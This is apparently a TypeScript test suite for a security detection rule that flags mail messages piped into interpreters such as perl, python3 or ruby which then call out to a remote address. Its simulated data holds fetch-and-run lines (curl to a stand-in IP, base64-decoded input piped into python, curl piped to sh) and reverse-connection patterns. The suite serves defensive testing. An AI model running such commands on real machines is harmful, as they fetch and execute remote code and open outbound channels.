import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from './host-log.test-support.ts';
import { atMostAt, factorsOf, firesAt, inOrder, scanLog } from './stories.test-support.ts';

/** A message that is piped out of the mail program into an interpreter: no file holds it. */

const OUT = '203.0.113.67';

/** A mail program at a terminal, a minute after a message came. No file is recorded. */
function reading(program = '/usr/bin/neomutt', by?: string): { log: HostLog; client: Process } {
  const log = new HostLog({ files: false });
  log.deliver({ unseen: true });
  log.wait(MINUTE);
  const client = log.shell('clerk').run(program, by === undefined ? {} : { by });
  log.wait(10 * SECOND);
  return { log, client };
}

const piped = (client: Process, line: string): Process => client.run(['/bin/sh', '-c', line], { argv0: 'sh' });

test('a message piped into perl, which fetches and connects', async () => {
  const { log, client } = reading();
  const perl = piped(client, 'perl').run('/usr/bin/perl', { argv0: 'perl' });
  perl
    .run(['/bin/sh', '-c', `curl -o r http://${OUT}/r`])
    .run(`/usr/bin/curl -o r http://${OUT}/r`)
    .connect(OUT, 80);
  log.wait(5 * SECOND);
  perl.connect(OUT, 4443);
  const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
  inOrder(alert, [
    ['mail.delivered'],
    ['process.input', '/usr/bin/neomutt', 'pipes the message'],
    ['content.executed', 'fed to an interpreter on standard input', 'perl'],
    ['network.connected', `${OUT}:80`],
    ['network.connected', '/usr/bin/perl', `${OUT}:4443`],
  ]);
  assert.ok(alert.links.some(({ kind, strength }) => kind === 'delivery' && strength === 'inferred'));
});

for (const [line, words] of [
  ['python3 -', '/usr/bin/python3 -'],
  ['base64 -d | python3', '/usr/bin/python3'],
  ["sed '1,/^$/d' | perl", '/usr/bin/perl'],
] as const)
  test(`piped into '${line}'`, async () => {
    const { log, client } = reading();
    const shell = piped(client, line);
    shell.run(words, { argv0: words.split(' ')[0]?.split('/').at(-1) ?? '' }).connect(OUT, 4443);
    firesAt(await scanLog(log), 'AN0656', 'medium');
  });

test('the shell of the line becomes the interpreter', async () => {
  const { log, client } = reading('/usr/bin/alpine');
  piped(client, 'ruby').exec('/usr/bin/ruby', { argv0: 'ruby' }).connect(OUT, 443);
  firesAt(await scanLog(log), 'AN0656', 'medium');
});

test('a message piped into a shell, which reaches out at once: medium, for it may have been typed', async () => {
  const { log, client } = reading();
  const shell = piped(client, 'bash').run('/bin/bash', { argv0: 'bash' });
  shell.run(`/usr/bin/curl -o r http://${OUT}/r`).connect(OUT, 80);
  const alerts = await scanLog(log);
  const alert = firesAt(alerts, 'AN0656', 'medium');
  atMostAt(alerts, 'medium');
  assert.ok(factorsOf(alert).includes('that the message was piped to the shell is a guess'));
});

test('a shell to type at, out of the mail program', async () => {
  const { log, client } = reading();
  const shell = piped(client, '/bin/bash').run('/bin/bash');
  shell.run('/usr/bin/dircolors -b');
  log.wait(5 * SECOND);
  shell.run(`/usr/bin/curl -O http://${OUT}/list.csv`).connect(OUT, 80);
  log.wait(5 * SECOND);
  shell.run(`/usr/bin/ssh ${OUT}`).connect(OUT, 22);
  atMostAt(await scanLog(log), 'informational');
});

test('an interpreter to type at that reaches nothing', async () => {
  const { log, client } = reading();
  piped(client, 'python3').run('/usr/bin/python3', { argv0: 'python3' });
  atMostAt(await scanLog(log), 'informational');
});

for (const [line, words] of [
  ['bash -l', '/bin/bash -l'],
  ['python3 -m json.tool', '/usr/bin/python3 -m json.tool'],
  ['perl -ne print', '/usr/bin/perl -ne print'],
  ['/usr/bin/perl /usr/share/razor/report', '/usr/bin/perl /usr/share/razor/report'],
  ['cat /etc/motd.pl | perl', '/usr/bin/perl'],
  ['curl -s http://intranet.example.org/x | sh', '/bin/sh'],
  ['perl < /etc/mail.pl', '/usr/bin/perl'],
  ['git am', '/usr/bin/git am'],
  ['less', '/usr/bin/less'],
  ['w3m -dump', '/usr/bin/w3m -dump'],
] as const)
  test(`no piped program: ${line}`, async () => {
    const { log, client } = reading();
    const [file = '', ...rest] = words.split(' ');
    piped(client, line)
      .run([file, ...rest], { argv0: file.split('/').at(-1) ?? '' })
      .connect(OUT, 443);
    const alerts = await scanLog(log);
    assert.deepEqual(
      alerts.filter(({ analytic }) => analytic === 'AN0656'),
      [],
    );
  });

test('what no mail program started, and a mail program of nobody knows whom', async () => {
  for (const [program, by] of [
    ['/usr/bin/less', undefined],
    ['/usr/bin/vim', undefined],
    ['/home/clerk/bin/neomutt', undefined],
  ] as const) {
    const { log, client } = reading(program, by);
    piped(client, 'perl').run('/usr/bin/perl', { argv0: 'perl' }).connect(OUT, 443);
    const alerts = await scanLog(log);
    assert.deepEqual(
      alerts.filter(({ analytic }) => analytic === 'AN0656'),
      [],
    );
  }
});
